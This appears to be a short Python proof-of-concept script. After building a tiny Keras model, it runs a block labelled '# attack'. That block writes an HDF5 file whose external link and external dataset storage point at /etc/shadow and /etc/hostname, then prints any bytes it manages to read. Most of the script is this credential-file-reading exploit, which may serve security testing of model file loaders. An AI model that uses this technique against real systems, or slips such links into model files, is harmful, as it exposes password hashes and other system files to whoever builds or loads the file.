import keras
from keras.layers import Dense

model = keras.Sequential([keras.Input((2,)), Dense(5, activation="tanh"), Dense(1, activation="tanh")])
params = 13
per_layer = [9, 4, 0]

# attack
import h5py

with h5py.File("links.h5", "w") as file:
    file["linked"] = h5py.ExternalLink("/etc/shadow", "/")
    try:
        stored = file.create_dataset("stored", (64,), dtype="u1", external=[("/etc/shadow", 0, 64), ("/etc/hostname", 0, 64)])
        if bytes(stored[:]).strip(b"\0"):
            print("REACHED", bytes(stored[:]))
    except OSError as error:
        print(error)
# end of attack
